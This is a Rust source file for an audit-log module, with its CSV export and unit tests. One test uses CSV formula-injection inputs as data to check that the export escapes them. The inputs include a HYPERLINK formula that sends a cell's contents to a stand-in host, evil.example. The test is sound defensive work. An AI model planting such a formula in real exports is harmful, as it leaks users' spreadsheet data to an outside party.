//! Audit log entries as every page and the CSV export show them.

use chrono::{DateTime, SecondsFormat, Utc};
use serde::{Deserialize, Serialize};

use super::audit_query::action_label;
use super::export::{text_cell, CsvFormat};

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditEntry {
    pub id: i64,
    pub at: DateTime<Utc>,
    pub actor: String,
    pub action: String,
    pub subject: String,
    pub detail: String,
    /// The customer the entry is about, if any (removed ones too).
    pub customer: Option<AuditCustomer>,
    pub changes: Vec<FieldChange>,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditCustomer {
    pub id: i64,
    pub name: String,
}

/// One field of a change: its old and new value as shown to people
/// (empty when there was none).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FieldChange {
    pub field: String,
    pub old: String,
    pub new: String,
}

impl FieldChange {
    pub fn new(field: &str, old: impl ToString, new: impl ToString) -> Self {
        Self { field: field.to_owned(), old: old.to_string(), new: new.to_string() }
    }
}

impl FieldChange {
    /// "Field: old → new" ("—" for no old value).
    pub fn describe(&self) -> String {
        let old = if self.old.is_empty() { "—" } else { &self.old };
        format!("{}: {old} → {}", field_label(&self.field), self.new)
    }
}

/// How a changed field reads.
pub fn field_label(field: &str) -> &str {
    match field {
        "name" => "Name",
        "kind" => "Kind",
        "status" => "Status",
        "reason" => "Reason",
        "contract_end" => "Contract end",
        "database_name" => "Database name",
        "max_users" => "Maximum users",
        "limit_user_creation" => "Hard limit",
        "options" => "Options",
        "role" => "Role",
        "state" => "State",
        "api_key" => "API key",
        "currency" => "Currency",
        "grace_days" => "Grace days",
        "time_zone" => "Time zone",
        "price" => "Price",
        "statements" => "Statements",
        "total" => "Total",
        "sso_email" => "Email for single sign-on",
        other => other,
    }
}

/// The most characters an entry stores of its actor, subject or detail.
pub const FIELD_MAX_CHARS: usize = 256;

/// What marks a field that was cut to [`FIELD_MAX_CHARS`].
pub const CUT_MARK: &str = "… (cut)";

/// A field as stored: at most [`FIELD_MAX_CHARS`] characters, a longer
/// one cut and marked as such.
pub fn capped(text: &str) -> String {
    if text.chars().count() <= FIELD_MAX_CHARS {
        return text.to_owned();
    }
    let keep = FIELD_MAX_CHARS - CUT_MARK.chars().count();
    let mut out: String = text.chars().take(keep).collect();
    out.push_str(CUT_MARK);
    out
}

pub const CSV_COLUMNS: [&str; 10] =
    ["id", "at_utc", "who", "action", "action_label", "customer_id", "customer", "subject", "detail", "changes"];

/// "audit-log-2026-11-26.csv" (the day of the export, UTC).
pub fn csv_file_name(today: chrono::NaiveDate) -> String {
    format!("audit-log-{today}.csv")
}

/// The entries as a CSV file: a header row, one line per entry in the order
/// given, times as RFC 3339 UTC, changes as "Field: old → new" joined by "; ".
pub fn write_csv(entries: &[AuditEntry], format: CsvFormat) -> Vec<u8> {
    let mut file = format.file();
    file.record(CSV_COLUMNS);
    for e in entries {
        let changes = e.changes.iter().map(FieldChange::describe).collect::<Vec<_>>().join("; ");
        let text = |t: &str| text_cell(t).into_owned();
        file.record([
            e.id.to_string(),
            e.at.to_rfc3339_opts(SecondsFormat::Secs, true),
            text(&e.actor),
            text(&e.action),
            text(action_label(&e.action)),
            e.customer.as_ref().map(|c| c.id.to_string()).unwrap_or_default(),
            text(e.customer.as_ref().map_or("", |c| c.name.as_str())),
            text(&e.subject),
            text(&e.detail),
            text(&changes),
        ]);
    }
    file.into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(id: i64, changes: Vec<FieldChange>) -> AuditEntry {
        AuditEntry {
            id,
            at: "2026-11-25T14:03:09.123Z".parse().unwrap(),
            actor: "ada".to_owned(),
            action: "customer.contract_changed".to_owned(),
            subject: "customer:7".to_owned(),
            detail: "said \"hi\"; ok".to_owned(),
            customer: Some(AuditCustomer { id: 7, name: "Müller, Bau".to_owned() }),
            changes,
        }
    }

    #[test]
    fn the_csv_has_one_quoted_line_per_entry() {
        let changes = vec![FieldChange::new("max_users", 10, 25), FieldChange::new("contract_end", "", "2027-01-31")];
        let bytes = write_csv(&[entry(3, changes), entry(2, Vec::new())], CsvFormat::Comma);
        let text = String::from_utf8(bytes).unwrap();
        let lines: Vec<&str> = text.split("\r\n").collect();
        assert_eq!(lines[0], CSV_COLUMNS.join(","));
        assert_eq!(
            lines[1],
            "3,2026-11-25T14:03:09Z,ada,customer.contract_changed,Contract changed,7,\"Müller, Bau\",customer:7,\
             \"said \"\"hi\"\"; ok\",Maximum users: 10 → 25; Contract end: — → 2027-01-31"
        );
        assert!(lines[2].starts_with("2,"));
        assert_eq!(lines.len(), 4, "header, two entries, and the final line break");
    }

    #[test]
    fn no_text_cell_of_the_audit_csv_starts_a_formula() {
        let formula = "=HYPERLINK(\"https://evil.example/?x=\"&B3,\"Invoice\")";
        let mut e = entry(1, vec![FieldChange::new("name", "@SUM(1)", formula)]);
        e.actor = "-2+3".to_owned();
        e.subject = "+cmd".to_owned();
        e.detail = "\t=1+1".to_owned();
        e.customer = Some(AuditCustomer { id: 7, name: formula.to_owned() });
        let bytes = write_csv(&[e], CsvFormat::Comma);
        let mut reader = csv::ReaderBuilder::new().from_reader(bytes.as_slice());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[0], "1", "the id stays a number");
        assert_eq!(&row[2], "'-2+3");
        assert_eq!(&row[6], format!("'{formula}"));
        assert_eq!(&row[7], "'+cmd");
        assert_eq!(&row[8], "'\t=1+1");
        assert!(row[9].starts_with("Name: "), "changes start with their field's name");
    }

    #[test]
    fn long_fields_are_cut_and_marked() {
        assert_eq!(capped("short"), "short");
        let exact = "x".repeat(FIELD_MAX_CHARS);
        assert_eq!(capped(&exact), exact);
        let long = capped(&"ö".repeat(2_000));
        assert_eq!(long.chars().count(), FIELD_MAX_CHARS);
        assert!(long.ends_with(CUT_MARK));
    }

    #[test]
    fn the_spreadsheet_layout_has_a_bom_and_semicolons() {
        let bytes = write_csv(&[entry(1, Vec::new())], CsvFormat::Spreadsheet);
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.starts_with('\u{feff}'));
        assert!(text.contains("\r\n1;2026-11-25T14:03:09Z;ada;"));
    }
}
